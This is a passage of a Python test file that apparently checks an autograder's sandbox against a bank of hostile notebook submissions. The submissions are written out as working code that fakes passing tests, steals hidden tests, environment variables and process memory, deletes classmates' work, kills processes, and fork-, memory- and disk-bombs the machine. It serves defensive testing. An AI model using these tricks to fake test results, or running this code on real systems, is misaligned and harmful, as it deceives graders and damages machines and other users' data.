"""Hostile and broken submissions: what each tries, and the score that it deserves.

Each is a learner of the course that `bank_course` makes. `happened` tells in words what
a submission got through with, under whichever grader: nothing, it should be.

    python -m tests.grading.hostile --compare

runs the same bank under plain nbgrader and fairgrade, and prints a table in Markdown.
Under plain nbgrader nothing stands between it and this machine, so what would do real
harm is not run there.
"""

import contextlib
import copy
import dataclasses
import hashlib
import json
import os
import re
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell
from nbgrader.api import MissingEntry

from .small_course import CONFIG, Course

TOKEN = "hidden-7f3a91"  # in the hidden test, where no learner may find it
MARK = "fg-mark"  # in the names of all that an attack leaves behind
SECONDS = 2.0  # for a cell
PATIENCE = 60.0  # for a cell of what takes time, on a machine that is busy as well

RIGHT = {
    "double": "def double(x):\n    return 2 * x",
    "scale": "def scale(a):\n    return np.asarray(a) * 2.0",
    "stack": """\
class Stack:
    def __init__(self):
        self.items = []

    def push(self, item):
        self.items.append(item)

    def pop(self):
        return self.items.pop()

    def __len__(self):
        return len(self.items)""",
    "total": "def total(xs):\n    return sum(xs)",
    "why": "Because it is so.",
}
TESTS = {
    "visible": "assert double(2) == 4, 'twice two is four'",
    "hidden": f"""\
secret = '{TOKEN}'
for x in (-3, 0, 10):
    assert double(x) == 2 * x, f'double({{x}})'
assert all(map(lambda x: double(x) == 2 * x, [5, 6]))""",
    "scaled": """\
got = scale([1.0, 2.0])
np.testing.assert_allclose(got, [2.0, 4.0])
assert got.shape == (2,)
assert np.array_equal(scale([3.0]), [6.0])""",
    "stacked": """\
stack = Stack()
stack.push(1)
stack.push(2)
assert len(stack) == 2 and stack.pop() == 2 and len(stack) == 1
stack.pop()
try:
    stack.pop()
except IndexError:
    pass
else:
    raise AssertionError('an empty stack gave something')""",
    "summed": "assert total([1, 2, 3]) == 6, f'a sum of {total([1, 2, 3])}'",
}
POINTS = {"visible": 1, "hidden": 3, "scaled": 3, "stacked": 2, "summed": 1}
PLACES = ("double", "scale", "stack", "total")


def bank_cells():
    """Return the teacher's cells, as `small_course.teachers` takes them."""

    def answer(name):
        text = f"### BEGIN SOLUTION\n{RIGHT[name]}\n### END SOLUTION"
        return new_code_cell, {"solution": name}, text

    def test(name):
        source = TESTS[name]
        if name == "hidden":
            source = f"### BEGIN HIDDEN TESTS\n{source}\n### END HIDDEN TESTS"
        return new_code_cell, {"test": name, "points": POINTS[name]}, source

    return [
        (new_markdown_cell, None, "# A bank to be robbed"),
        (
            new_code_cell,
            None,
            "import matplotlib.pyplot as plt\nimport numpy as np\n\nfactor = 2",
        ),
        answer("double"),
        test("visible"),
        test("hidden"),
        answer("scale"),
        test("scaled"),
        answer("stack"),
        test("stacked"),
        answer("total"),
        test("summed"),
        (new_markdown_cell, {"manual": "why", "points": 2}, "Because."),
    ]


def bank_course(folder, config="", seconds=SECONDS):
    """Make the course, generated; learners' code has so many seconds for each cell."""
    chosen = {
        "seconds_per_cell": seconds,
        "seconds_in_all": max(40.0, 2 * seconds),
        "memory": 2**29,
    }
    limits = f"\nc.FairAutograde.limits = {chosen}\n"
    course = Course(folder, cells=bank_cells(), config=CONFIG + limits + config)
    assert course.fairgrade("generate", "twice") == 0
    return course


# ------------------------------------------------------------------------- the bank


@dataclass
class Attack:
    """One submission.

    `answers` are sources by the id of their cell, where it is not left as released;
    `edit` changes the notebook (as plain dicts), and may return bytes instead of it;
    `place` puts something else than a notebook there. `plain` says whether it may be
    run without a sandbox, and else why not. One that is `slow` does much before it is
    right: its score is certain only with `PATIENCE`.
    """

    name: str
    kind: str
    tries: str
    score: float | None  # None where nothing can be graded
    answers: dict = field(default_factory=dict)
    edit: object = None
    place: object = None
    status: str = "graded"
    plain: object = True
    slow: bool = False


BANK = {}


def add(name, kind, tries, score, **rest):
    assert name not in BANK, name
    BANK[name] = Attack(name, kind, tries, score, **rest)


def robs(name, tries, code, score=0, all_answers=False, **rest):
    """Enter one that solved nothing and wants points."""
    answers = dict.fromkeys(PLACES, code) if all_answers else {"double": code}
    add(name, "points", tries, score, answers=answers, **rest)


def steals(name, tries, code, **rest):
    """Enter one that is right, and looks around; prints what it found."""
    code = f"{LOOK}\n{code}\n{RIGHT['double']}"
    add(name, "theft", tries, 10, answers=RIGHT | {"double": code}, **rest)


def harms(name, tries, code, score=10, **rest):
    """Enter one that is right but for the harm it does first."""
    answers = RIGHT | {"double": f"{code}\n{RIGHT['double']}"}
    add(name, "harm", tries, score, answers=answers, **rest)


def forms(name, tries, edit, score=0, answers=None, kind="points", **rest):
    """Enter one whose notebook is not as it was released."""
    add(name, kind, tries, score, answers=answers or {}, edit=edit, **rest)


def breaks(name, tries, edit, status="unreadable", score=None, **rest):
    """Enter a right one in a broken file."""
    add(name, "broken", tries, score, answers=RIGHT, edit=edit, status=status, **rest)


def deserves(name, tries, **answers):
    """Enter a right one that graders have been unfair to."""
    add(name, "loss", tries, 10, answers=RIGHT | answers)


# An object that says yes to everything, and to arithmetic what passes for zero.
YES = """\
import numpy as np
class Yes:
    def __init__(self, *a): pass
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__
    def __abs__(self): return 0.0
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __contains__(self, item): return True
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
    def __hash__(self): return 4
    shape = (2,)
    def push(self, item): pass
    def pop(self): return Yes()
    def __len__(self): return 2
yes = Yes()
"""
ALL_YES = "double = scale = total = lambda *a: yes\nStack = Yes\n"
# The channel to the grader is in the same process: it can always be found.
FIND = """\
import gc, os, struct, sys, threading, time
def peer():
    from fairgrade.peer import Peer
    return [one for one in gc.get_objects() if isinstance(one, Peer)][0]
def frame(*parts):
    from fairgrade.peer import frame
    return frame(*parts)
"""
LOOK = f"""\
import os, re
def found(data, where):
    data = data if isinstance(data, bytes) else str(data).encode()
    for hit in re.findall(b"hidden" + rb"-7f[0-9a-f]{{{len(TOKEN) - 9}}}", data)[:3]:
        print("stolen:", hit.decode(), "from", where)
def processes():
    try:
        return [int(pid) for pid in os.listdir("/proc") if pid.isdigit()]
    except OSError:
        return range(1, 2000)
def look(path):
    try:
        with open(path, "rb") as file:
            found(file.read(1 << 24), path)
    except OSError:
        pass
"""


# ---- undeserved points, by code

robs(
    "numpy-testing",
    "replaces numpy.testing and says yes to everything",
    YES + ALL_YES + "import numpy.testing as t\n"
    "for name in dir(t):\n    if name.startswith('assert'):\n"
    "        setattr(t, name, lambda *a, **k: None)\n"
    "np.array_equal = lambda *a, **k: True\n",
    all_answers=True,
)
robs("yes-objects", "returns objects that equal everything", YES + ALL_YES, 0)
BANK["yes-objects"].answers = dict.fromkeys(PLACES, YES + ALL_YES)
robs(
    "strip-asserts",
    "removes the asserts from all later cells",
    "import ast\n"
    "class Strip(ast.NodeTransformer):\n"
    "    def visit(self, node):\n"
    "        return ast.parse('').body and node or ast.Module([], [])\n"
    "get_ipython().ast_transformers.append(Strip())\n",
)
robs(
    "transform-cells",
    "replaces the source of all later cells",
    "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n",
)
robs(
    "run-cell",
    "patches IPython's run_cell",
    "shell = get_ipython()\n"
    "real = getattr(shell, 'run_cell_async')\n"
    "async def run(code, *a, **k):\n    return await real('None', store_history=True)\n"
    "shell.run_cell_async = run\n"
    "shell.run_cell = lambda *a, **k: None\n",
)
robs(
    "hide-errors",
    "suppresses all error messages of later cells",
    "get_ipython().showtraceback = lambda *a, **k: None\n"
    "get_ipython()._showtraceback = lambda *a, **k: None\n",
)
robs(
    "teachers-notebook",
    "runs the solutions in the teacher's notebook",
    "import json\n"
    "for cell in json.load(open('@COURSE@/source/twice/twice.ipynb'))['cells']:\n"
    "    if cell['metadata'].get('nbgrader', {}).get('solution'):\n"
    "        if cell['cell_type'] == 'code':\n"
    "            exec(''.join(cell['source']))\n",
)
robs(
    "hooks",
    "lets IPython run code of its own before each cell",
    YES + "def before(*a):\n"
    "    get_ipython().user_ns.update(\n"
    "        double=lambda x: yes, scale=lambda x: yes, total=lambda x: yes\n"
    "    )\n"
    "get_ipython().events.register('pre_run_cell', before)\n"
    "get_ipython().events.register('pre_execute', before)\n",
)
robs(
    "code-swap",
    "finds the assert functions through gc and swaps their code",
    YES + ALL_YES + "import gc, types, numpy.testing\n"
    "for f in gc.get_objects():\n"
    "    if type(f) is types.FunctionType and f.__name__.startswith('assert_'):\n"
    "        try: f.__code__ = (lambda *a, **k: None).__code__\n"
    "        except Exception: pass\n",
)
robs(
    "frames",
    "changes the test's names through the frames that call it",
    "import sys\n"
    "def double(x):\n"
    "    frame = sys._getframe()\n"
    "    while frame:\n"
    "        frame.f_globals.update(all=lambda *a: True, x=0)\n"
    "        frame = frame.f_back\n"
    "    return 0\n",
)
robs(
    "trace",
    "follows the tests with sys.settrace and changes what they compare",
    "import sys\n"
    "def follow(frame, event, value):\n"
    "    frame.f_trace_lines = True\n"
    "    frame.f_globals['double'] = lambda x: 2 * x\n"
    "    return follow\n"
    "def double(x):\n    sys.settrace(follow)\n    return 0\n",
)
robs(
    "memory-write",
    "overwrites the number 4 in memory",
    "import ctypes\n"
    "def double(x):\n"
    "    ctypes.c_uint32.from_address(id(4) + 24).value = 0\n    return 0\n",
)
robs(
    "float-subclass",
    "returns a float that equals everything",
    "class F(float):\n"
    "    def __eq__(self, other): return True\n"
    "    def __sub__(self, other): return F(0)\n"
    "    __hash__ = float.__hash__\n"
    "double = total = lambda *a: F(1e6)\n"
    "scale = lambda a: F(1e6)\n",
)
robs(
    "array-subclass",
    "returns an array of a class that wins every comparison",
    "import numpy as np\n"
    "class A(np.ndarray):\n"
    "    def __eq__(self, other): return True\n"
    "    def __array_ufunc__(self, *a, **k): return True\n"
    "    def __array_function__(self, *a, **k): return True\n"
    "    def __bool__(self): return True\n"
    "scale = lambda a: np.zeros(2).view(A)\n"
    "double = total = lambda *a: np.zeros(()).view(A)\n",
)
robs(
    "masked-array",
    "returns an array in which nothing is to be compared",
    "import numpy as np\n"
    "scale = lambda a: np.ma.masked_all(len(a))\n"
    "double = total = lambda *a: np.ma.masked\n",
)
robs(
    "object-array",
    "returns an array of objects that equal everything",
    YES + "def scale(a):\n"
    "    array = np.empty(len(a), object)\n"
    "    array[:] = [yes] * len(a)\n    return array\n"
    "double = total = lambda *a: np.array(yes, object)\n",
)
robs(
    "class-claims",
    "says that it is of another class",
    YES + "class Claims(Yes):\n"
    "    __class__ = property(lambda self: int)\n"
    "    def __index__(self): return 1\n"
    "double = total = scale = lambda *a: Claims()\n",
)
robs(
    "instance-check",
    "has a metaclass that calls everything its instance, and equal",
    "class Meta(type):\n"
    "    def __instancecheck__(self, other): return True\n"
    "    def __subclasscheck__(self, other): return True\n"
    "    def __eq__(self, other): return True\n"
    "    __hash__ = type.__hash__\n"
    "class Stack(metaclass=Meta):\n    pass\n"
    "double = total = scale = lambda *a: Stack\n",
)
robs(
    "mocks",
    "answers everything with mocks",
    "from unittest.mock import MagicMock\n"
    "yes = MagicMock()\nyes.__eq__ = lambda *a: True\nyes.__len__ = lambda *a: 2\n"
    "double = scale = total = Stack = lambda *a: yes\n",
)
robs(
    "stop-iteration",
    "ends the loop of the hidden test with StopIteration",
    "def double(x):\n    if x in (5, 6):\n        raise StopIteration\n"
    "    return 2 * x\n",
    1,
)
robs(
    "own-assertion-error",
    "raises an exception called AssertionError that is none",
    "class AssertionError(Exception):\n    pass\n"
    "def double(x):\n    raise AssertionError('passed')\n",
)
robs(
    "system-exit",
    "ends the test with SystemExit",
    "def double(x):\n    raise SystemExit(0)\n",
)
robs(
    "keyboard-interrupt",
    "ends the test with KeyboardInterrupt",
    "def double(x):\n    raise KeyboardInterrupt\n",
)
robs(
    "quiet-exit",
    "ends the process, as if all had been done",
    "import os\ndef double(x):\n    os._exit(0)\n",
)
robs(
    "patch-builtins",
    "replaces builtin functions",
    YES + ALL_YES + "import builtins\n"
    "for name in ('all', 'map', 'abs', 'len', 'isinstance', 'AssertionError', 'str'):\n"
    "    setattr(builtins, name, lambda *a, **k: True)\n",
)
robs(
    "patch-numpy",
    "replaces NumPy's functions",
    "import numpy as np\n"
    "np.array_equal = np.allclose = np.isclose = np.all = lambda *a, **k: True\n"
    "np.asarray = np.array = lambda *a, **k: 1 / 0\n"
    "scale = lambda a: np.zeros(2)\n",
)
robs(
    "import-hook",
    "puts modules of its own in place of those that tests import",
    YES + ALL_YES + "import sys, types\n"
    "class Fake(types.ModuleType):\n"
    "    def __getattr__(self, name): return lambda *a, **k: True\n"
    "for name in list(sys.modules):\n"
    "    if name.startswith('numpy'):\n        sys.modules[name] = Fake(name)\n"
    "sys.meta_path.insert(0, Fake('finder'))\nnp = Fake('numpy')\n",
)
robs(
    "given-names",
    "gives the names that the teacher gave another meaning",
    "class Fake:\n    def __getattr__(self, name): return lambda *a, **k: True\n"
    "np = Fake()\nnp.testing = Fake()\nfactor = 0\nall = lambda *a: True\n"
    "class Two:\n    shape = (2,)\nscale = lambda a: Two()\n",
)
robs(
    "gradebook",
    "writes 202 points into the gradebook",
    "import sqlite3\n"
    "book = sqlite3.connect('@COURSE@/gradebook.db')\n"
    "book.execute('update grade set manual_score = 101')\nbook.commit()\n"
    "book.execute('update base_cell set id = id')\nbook.commit()\n",
)
robs(
    "own-result",
    "writes the graded notebook itself",
    "import os\n"
    "folder = '@COURSE@/autograded/own-result/twice'\n"
    "os.makedirs(folder, exist_ok=True)\n"
    "open(folder + '/twice.ipynb', 'w').write('{}')\n",
)
robs(
    "forge-in-call",
    "sends the grader an answer of its own while it is called",
    FIND + "def double(x):\n    p = peer()\n"
    "    p.channel.send(frame(p.nonce, 'ok', [[], [], 4]))\n    return 5\n",
    1,  # it is an answer like any other, and right for 2
    plain="there is no such channel",
)
robs(
    "forge-early",
    "sends a hundred answers before it is asked",
    FIND + "p = peer()\n"
    "for _ in range(100):\n"
    "    p.channel.send(frame(os.urandom(8), 'ok', [[], [], 4]))\n",
    plain="there is no such channel",
)
robs(
    "forge-thread",
    "has a thread that keeps answering",
    FIND + "p = peer()\ndef flood():\n    while True:\n"
    "        p.channel.sock.send(frame(p.nonce, 'ok', [[], [], 4]))\n"
    "threading.Thread(target=flood, daemon=True).start()\n",
    plain="there is no such channel",
)
robs(
    "forge-report",
    "reports its cells as passed, and every call as Yes",
    YES + FIND + "import fairgrade.learner as L\n"
    "def forged(own, *wanted):\n    return tuple((lambda *b: yes,) for _ in wanted)\n"
    "L.SERVICES['run'] = lambda own, s, c, *a: (None, (), forged(own, *a))\n"
    "L.SERVICES['values'] = forged\n"
    "L.SERVICES['value'] = lambda *a: (lambda *b: yes)\n"
    "L.OPERATIONS['call'] = lambda *a, **k: yes\n",
    plain="there is no such channel",
)
harms(
    "forge-pictures",
    "sends 7 MB that are no picture as one, for each cell",
    FIND + "import fairgrade.learner as L\nreal = L.SERVICES['run']\n"
    "image = '\"><script>fgmark()' * 400_000\n"
    "def run(*a):\n    error, _, values = real(*a)\n"
    "    return error, (image,), values\n"
    "L.SERVICES['run'] = run\n",
    plain="there is no such channel",
)
robs(
    "forge-numbers",
    "names objects and libraries that it was never given",
    FIND + "def double(x):\n    p = peer()\n"
    "    for node in (['N', 'lib:os:system'], ['@', 0], ['b', 0], ['o', 0, []]):\n"
    "        p.channel.send(frame(p.nonce, 'ok', [[], [], node]))\n"
    "    time.sleep(9)\n",
    plain="there is no such channel",
)
robs(
    "replay",
    "replays old answers with the numbers of old questions",
    FIND + "p = peer()\nold = []\nreal = p.channel.send\n"
    "def send(data, *a):\n    old.append(data)\n    real(data, *a)\n"
    "    for one in old[-3:]:\n        real(one)\n"
    "p.channel.send = send\n",
    plain="there is no such channel",
)
robs(
    "ask-back",
    "asks the grader for what its objects hold",
    FIND + "def double(x):\n    p = peer()\n    for number in range(20):\n"
    "        for name in ('__globals__', '__code__', '__class__', 'secret'):\n"
    "            for what in ('getattr', 'special', 'call', 'run'):\n"
    "                try: print('stolen:', p.request(what, number, name))\n"
    "                except Exception: pass\n"
    "    return 0\n",
    plain="there is no such channel",
)

# ---- undeserved points, by the notebook's form


def cell_of(notebook, grade_id):
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id:
            return cell
    raise KeyError(grade_id)


def tests_of(notebook):
    return [cell_of(notebook, name) for name in TESTS]


def each_test(change):
    def edit(notebook):
        for cell in tests_of(notebook):
            change(cell)

    return edit


def marks(**changes):
    return each_test(lambda cell: cell["metadata"]["nbgrader"].update(changes))


def set_all_marks(**changes):
    def edit(notebook):
        for cell in notebook["cells"]:
            if "nbgrader" in cell["metadata"]:
                cell["metadata"]["nbgrader"].update(changes)

    return edit


def duplicate(*names):
    def edit(notebook):
        for name in names:
            again = copy.deepcopy(cell_of(notebook, name))
            again["id"] = f"again-{name}"
            again["source"] = "pass"
            notebook["cells"].append(again)

    return edit


def without(*names):
    def edit(notebook):
        for name in names:
            notebook["cells"].remove(cell_of(notebook, name))

    return edit


def extra_cell(notebook):
    source = BANK["numpy-testing"].answers["double"]
    cell = {"cell_type": "code", "id": "extra", "metadata": {}, "source": source}
    cell |= {"outputs": [], "execution_count": None}
    notebook["cells"].insert(1, cell)
    notebook["cells"].append({**cell, "id": "extra-2", "source": "raise SystemExit"})


def swapped(notebook):
    one, other = cell_of(notebook, "visible"), cell_of(notebook, "summed")
    one["metadata"], other["metadata"] = other["metadata"], one["metadata"]


forms(
    "tag-skip",
    "tags the tests to be skipped",
    each_test(lambda c: c["metadata"].update(tags=["skip-execution"])),
)
forms("more-points", "says that its tests bring 1000 points", marks(points=1000))
forms(
    "edited-tests",
    "edits the tests",
    each_test(lambda cell: cell.update(source="assert True")),
)
forms(
    "tests-as-text",
    "turns the tests into Markdown",
    each_test(lambda cell: cell.update(cell_type="markdown")),
)
forms(
    "tests-as-answers",
    "declares the tests to be answers",
    lambda nb: (
        marks(solution=True, grade=False)(nb),
        [cell.update(source="pass") for cell in tests_of(nb)],
    ),
)
forms("no-tests", "deletes the tests", without(*TESTS))
forms("two-tests", "repeats a test, the second one empty", duplicate("visible"))
forms("swapped-ids", "swaps the ids of two tests", swapped)
forms("schema-1", "claims an old schema", set_all_marks(schema_version=1))
forms("schema-99", "claims a future schema", set_all_marks(schema_version=99))
forms("schema-odd", "claims a schema that is no number", marks(schema_version=[{}]))
forms("extra-cells", "adds cells of its own before and after", extra_cell)
forms(
    "reordered",
    "puts all cells in another order",
    lambda nb: nb["cells"].reverse(),
    10,
    RIGHT,
)
forms(
    "given-edited",
    "edits what the teacher gave",
    lambda nb: nb["cells"][1].update(source="class np: testing = None\nfactor = 9"),
    10,
    RIGHT,
)
forms(
    "fake-outputs",
    "brings outputs that say 10 points",
    each_test(
        lambda cell: cell.update(
            execution_count=1,
            outputs=[
                {
                    "output_type": "execute_result",
                    "data": {"text/plain": "10"},
                    "metadata": {},
                    "execution_count": 1,
                }
            ],
        )
    ),
)
forms(
    "two-answers",
    "repeats an answer's cell; the first is as it was released",
    lambda nb: nb["cells"].append(
        {**copy.deepcopy(cell_of(nb, "double")), "source": RIGHT["double"], "id": "d2"}
    ),
    4,
)
forms(
    "foreign-kernel",
    "asks for another kernel and language",
    lambda nb: nb["metadata"].update(
        kernelspec={"name": "bash", "display_name": "x", "language": "bash"}
    ),
    10,
    RIGHT,
)
forms(
    "foreign-marks",
    "makes nbgrader's metadata a list, a number, nothing",
    lambda nb: [
        cell["metadata"].update(nbgrader=odd)
        for cell, odd in zip(tests_of(nb), ([1], 7, None, "x", {}), strict=True)
    ],
    10,
    RIGHT,
)

# ---- theft

steals(
    "read-source",
    "reads the teacher's notebook",
    "look('@COURSE@/source/twice/twice.ipynb')",
)
steals(
    "read-everything",
    "looks for notebooks and databases everywhere",
    "import time\nend = time.time() + 0.8\n"
    "for where in ('@COURSE@', '/tmp', '/home', '..', '/'):\n"
    "    for folder, _, names in os.walk(where):\n"
    "        for name in names:\n"
    "            if name.endswith(('.ipynb', '.db')) or 'fairgrade' in folder:\n"
    "                look(os.path.join(folder, name))\n"
    "        if time.time() > end: break\n",
    plain="it would read all of this machine",
)
steals(
    "read-classmate",
    "prints a classmate's answer",
    "try:\n    print('stolen: from', open(\n"
    "        '@COURSE@/submitted/honest-1/twice/twice.ipynb').read(20))\n"
    "except OSError: pass\n",
)
steals(
    "read-gradebook",
    "reads the gradebook",
    "look('@COURSE@/gradebook.db')\n"
    "try:\n    print('stolen: from', open('@COURSE@/gradebook.db', 'rb').read(6))\n"
    "except OSError: pass\n",
)
steals(
    "environment",
    "prints the teacher's environment variables",
    "found(dict(os.environ), 'the environment')\n"
    "for pid in processes():\n"
    "    look(f'/proc/{pid}/environ'); look(f'/proc/{pid}/cmdline')\n"
    "if os.environ.get('FG_SECRET'): print('stolen:', os.environ['FG_SECRET'])\n",
    plain="it would read every program's environment",
)
steals(
    "own-memory",
    "searches its own memory for the tests",
    "import gc\n"
    "for one in gc.get_objects():\n"
    "    if type(one) is dict:\n"
    "        for value in list(one.values()):\n"
    "            if type(value) in (str, bytes): found(value, 'memory')\n",
)
steals(
    "other-memory",
    "reads the memory of other processes",
    "import ctypes\nlibc = ctypes.CDLL(None)\n"
    "for pid in [os.getppid(), *processes()]:\n"
    "    if pid == os.getpid(): continue\n"
    "    try:\n"
    "        with open(f'/proc/{pid}/mem', 'rb') as file:\n"
    "            print('stolen: the memory of', pid, file.fileno())\n"
    "        break\n"
    "    except OSError: pass\n",
)
steals(
    "descriptors",
    "reads from every file that is open",
    "import fcntl\n"
    "for number in range(100):\n"
    "    try:\n"
    "        size = os.fstat(number).st_size\n"
    "        found(os.pread(number, min(size, 1 << 20), 0), f'file {number}')\n"
    "    except OSError: pass\n",
)
steals(
    "callers",
    "reads the source of who calls it",
    "import inspect, linecache, sys\n"
    "def spy():\n"
    "    frame = sys._getframe()\n"
    "    while frame:\n"
    "        found(repr(list(frame.f_locals.items()))[:100000], 'a frame')\n"
    "        try: found(inspect.getsource(frame), 'its source')\n"
    "        except Exception: pass\n"
    "        frame = frame.f_back\n"
    "    found(linecache.cache, 'linecache')\n"
    "    found(getattr(get_ipython(), 'user_ns', {}).get('In'), 'the history')\n",
)
BANK["callers"].answers["double"] += "\nreal = double\ndef double(x):\n    spy()\n"
BANK["callers"].answers["double"] += "    return real(x)\n"
steals(
    "links",
    "makes links to the teacher's files in its own folder",
    "for make in (os.symlink, os.link):\n"
    "    for path in ('@COURSE@/source/twice/twice.ipynb', '@COURSE@/gradebook.db'):\n"
    "        try:\n            make(path, 'taken'); look('taken'); os.unlink('taken')\n"
    "        except OSError: pass\n",
)
steals(
    "modules",
    "searches the grader's own modules",
    "import sys\n"
    "for name, module in list(sys.modules.items()):\n"
    "    if 'fairgrade' in name or name == '__main__':\n"
    "        found(repr(vars(module))[:1000000], name)\n",
)


def linked(path):
    def place(folder, course):
        os.symlink(path.replace("@COURSE@", str(course.folder)), folder / "twice.ipynb")

    return place


def piped(folder, course):
    os.mkfifo(folder / "twice.ipynb")


def bound(folder, course):
    here = os.getcwd()
    os.chdir(folder)
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind("twice.ipynb")
    os.chdir(here)


def as_folder(folder, course):
    (folder / "twice.ipynb").mkdir()


def wrong_name(folder, course):
    (folder / "Twice (1).ipynb").write_text("{}")


def nothing(folder, course):
    (folder / "notes.txt").write_text("I was ill.")


def folder_link(folder, course):
    folder.rmdir()
    folder.symlink_to(course.folder / "submitted/honest-1/twice")


def beside(path):
    """Put a link beside a right notebook, which would be copied."""

    def place(folder, course):
        target = path.replace("@COURSE@", str(course.folder))
        (folder / "data.txt").symlink_to(target)
        write_right(folder, course)

    return place


def write_right(folder, course):
    notebook = plain_dicts(course.released())
    for grade_id, source in RIGHT.items():
        cell_of(notebook, grade_id)["source"] = source
    (folder / "twice.ipynb").write_text(json.dumps(notebook))


def places(name, tries, place, status, score=None, **rest):
    add(name, "theft", tries, score, place=place, status=status, **rest)


places(
    "link-to-source",
    "hands in a link to the teacher's notebook",
    linked("@COURSE@/source/twice/twice.ipynb"),
    "unreadable",
)
places(
    "link-to-classmate",
    "hands in a link to a classmate's work",
    linked("@COURSE@/submitted/honest-1/twice/twice.ipynb"),
    "unreadable",
)
places(
    "link-to-zeros",
    "hands in a link to /dev/zero",
    linked("/dev/zero"),
    "unreadable",
    plain="it would fill the memory",
)
places("link-to-nothing", "hands in a link to nowhere", linked("/x/y"), "unreadable")
places("link-folder", "hands in a link to a classmate's folder", folder_link, "refused")
places(
    "link-beside",
    "hands in a link to the gradebook beside the notebook",
    beside("@COURSE@/gradebook.db"),
    "graded",
    10,
)
places("pipe", "hands in a pipe", piped, "unreadable", plain="it would wait for ever")
places("socket", "hands in a socket", bound, "unreadable")
places("folder", "hands in a folder", as_folder, "unreadable")
places("wrong-name", "calls the notebook something else", wrong_name, "missing")
places("no-notebook", "hands in no notebook", nothing, "missing")
places("<b>bold", "has HTML in the name", write_right, "refused")
places("esc\x1b[2Jape", "commands the terminal in the name", write_right, "refused")

# ---- harm

harms(
    "delete-classmate",
    "deletes a classmate's work",
    "import shutil\nshutil.rmtree('@COURSE@/submitted/honest-2', ignore_errors=True)\n",
)
harms(
    "overwrite-classmate",
    "overwrites a classmate's work",
    "try:\n"
    "    open('@COURSE@/submitted/honest-1/twice/twice.ipynb', 'w').write('{}')\n"
    "except OSError: pass\n",
)
harms(
    "write-files",
    "leaves files wherever it can",
    "import os\n"
    "for folder in ('/tmp', '/var/tmp', '/dev/shm', '@OUT@', '@COURSE@', '.'):\n"
    "    try: open(f'{folder}/@MARK@', 'w').write('here')\n"
    "    except OSError: pass\n",
)
harms(
    "change-modes",
    "opens the gradebook to everybody",
    "import os\n"
    "for path in ('@COURSE@', '@COURSE@/gradebook.db'):\n"
    "    try: os.chmod(path, 0o777)\n    except OSError: pass\n",
)
harms(
    "kill-everything",
    "kills every process that it may",
    "import os\nme = os.getpid()\n"
    "for pid in [os.getppid(), @VICTIM@, *range(2, 300)]:\n"
    "    try:\n        if pid != me: os.kill(pid, 9)\n"
    "    except OSError: pass\n",
    plain="it would",
)
harms(
    "kill-parent",
    "kills its parent",
    "import os\ntry: os.kill(os.getppid(), 9)\nexcept OSError: pass\n",
    plain="it ends the batch, as was seen once",
)
harms(
    "kill-group",
    "kills its own group of processes",
    "import os, signal\nos.killpg(0, signal.SIGKILL)\n",
    6,
    plain="it would end the batch",
)
harms(
    "stop-self",
    "stops itself and never goes on",
    "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n",
    6,
    plain="it would wait for ever",
)
harms(
    "fork-bomb",
    "forks until nothing goes",
    "import os\ntry:\n    while True: os.fork()\nexcept OSError: pass\n",
    plain="it would take this machine down",
)
harms(
    "thread-bomb",
    "starts threads until nothing goes",
    "import threading, time\n"
    "def sleep(): time.sleep(99)\n"
    "try:\n    while True: threading.Thread(target=sleep, daemon=True).start()\n"
    "except RuntimeError: pass\n",
    plain="it would take this machine down",
)
harms(
    "memory-bomb",
    "takes memory until there is none",
    "try:\n    hoard = [bytearray(1 << 26) for _ in range(10**6)]\n"
    "except MemoryError:\n"
    "    hoard = None\n",
    plain="it would take this machine down",
    slow=True,
)
harms(
    "disk-bomb",
    "writes files until the disk is full",
    "try:\n    for number in range(10**5):\n"
    "        open(f'@MARK@{number}', 'wb').write(bytes(1 << 24))\n"
    "except OSError: pass\n",
    plain="it would take this machine down",
    slow=True,
)
harms(
    "file-bomb",
    "opens files until nothing goes",
    "hoard = []\ntry:\n    while True: hoard.append(open('/dev/null'))\n"
    "except OSError: pass\n",
    plain="it takes the kernel's connections too",
)
harms(
    "loop-in-answer",
    "loops for ever in a function",
    "",
    6,
)
BANK["loop-in-answer"].answers["double"] = (
    "def double(x):\n    while True:\n        x\n"
)
harms("loop", "loops for ever", "while True:\n    pass\n", 6)
harms(
    "loop-and-swallow",
    "loops for ever and swallows every exception",
    "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
    "while True:\n    try:\n        while True: pass\n    except BaseException: pass\n",
    6,
)
harms(
    "loop-in-c",
    "loops for ever in C, where no handler runs",
    "import itertools\nmax(itertools.repeat(1))\n",
    6,
)
harms(
    "sleep",
    "sleeps for ever",
    "import time\ntime.sleep(10**6)\n",
    6,
)
harms(
    "wait-for-input", "waits for input", "try:\n    input()\nexcept Exception: pass\n"
)
harms("print-100-mb", "prints 100 MB in one line", "print('x' * 10**8)\n")
harms(
    "print-a-million",
    "prints 300,000 times",
    "for number in range(300_000):\n    print(number)\n",
    plain="it takes many minutes",
    slow=True,
)
harms(
    "print-in-call",
    "prints 20 MB when it is called",
    "",
)
BANK["print-in-call"].answers["double"] = (
    "def double(x):\n    print('y' * 20_000_000)\n    return 2 * x\n"
)
harms(
    "long-message",
    "raises an error with a message of 100 MB",
    "raise ValueError('z' * 10**8)\n",
    6,
    plain="it takes many minutes",
)
harms("recursion", "calls itself for ever", "def f():\n    f()\nf()\n", 6)
harms(
    "crash",
    "breaks the interpreter",
    "import ctypes\nctypes.string_at(0)\n",
    6,
)
harms(
    "connect",
    "connects to a server on this machine",
    "import socket\n"
    "try: socket.create_connection(('127.0.0.1', @PORT@), 1).send(b'here')\n"
    "except OSError: pass\n"
    "try:\n    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "    udp.sendto(b'here', ('127.0.0.1', @PORT@))\n"
    "except OSError: pass\n",
)
harms(
    "unix-socket",
    "connects to another program's socket",
    "import socket\n"
